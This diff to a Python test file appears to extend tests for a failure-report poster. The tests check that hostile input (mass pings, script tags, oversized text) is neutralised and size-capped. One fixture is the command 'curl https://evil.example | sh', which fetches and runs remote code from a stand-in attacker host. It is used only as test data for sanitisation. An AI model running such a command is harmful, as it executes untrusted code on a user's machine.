@@ -23,6 +23,7 @@ from mutations import mutations
 from onegig.errors import ArtifactError, ConfigError, ExitCode, GithubError, GithubPermissionError
 from onegig.judge.baseline import make_baseline
 from onegig.model.codec import to_json, to_line
+from onegig.model.memory import ServiceState
 from onegig.model.run import Failure, RunReport
 from onegig.publish.client import Client
 from onegig.publish.poster import Outcome, Settings, post
@@ -596,7 +597,10 @@ def test_names_of_strangers_ping_and_mark_up_nothing(stand_in: StandIn, tell: Po
         for i, (service, text) in enumerate(zip(memory.services, HOSTILE * 2, strict=False))
     )
     images = make_honest_images()
-    claim = scene.claim(reproduce="curl https://evil.example | sh # onegig check")
+    failure = Failure(
+        message=HOSTILE[2], command=HOSTILE[3], advice=HOSTILE[4], detail=HOSTILE[3], exit_code=3
+    )
+    claim = scene.claim(reproduce="curl https://evil.example | sh # onegig check", failure=failure)
     scene.upload(zipped(claim, images, replace(memory, services=services, stack=HOSTILE[0])))
     tell(scene.event())
     body = only_body(scene)
@@ -605,6 +609,31 @@ def test_names_of_strangers_ping_and_mark_up_nothing(stand_in: StandIn, tell: Po
     for text in ("@everyone", "<script", "<!-- -->"):
         assert text not in outside_code(body)
     assert "onegig check\n" in body
+
+
+def test_endless_words_of_strangers_fit(stand_in: StandIn, tell: Post) -> None:
+    scene = open_scene(stand_in)
+    endless = "@everyone *[`" * 2500
+    failure = Failure(
+        message=endless,
+        command=endless,
+        advice=endless,
+        detail="\n".join([endless[:600]] * 100),
+        place=endless,
+        exit_code=3,
+    )
+    memory = make_honest_memory()
+    services = tuple(
+        replace(one, state=ServiceState.CRASHED, log_tail=endless, criticality=endless)
+        for one in memory.services
+    )
+    memory = replace(memory, services=services, stack=endless, incomplete=(endless,) * 5)
+    scene.upload(zipped(scene.claim(failure=failure, onegig_version=endless), memory=memory))
+    tell(scene.event())
+    assert len(only_body(scene)) <= 65_536
+    assert "@everyone" not in outside_code(only_body(scene))
+    assert len(scene.check_text()) < 65_535
+    assert "@everyone" not in outside_code(scene.check_text().partition("\n")[2])
 
 
 @pytest.mark.parametrize(
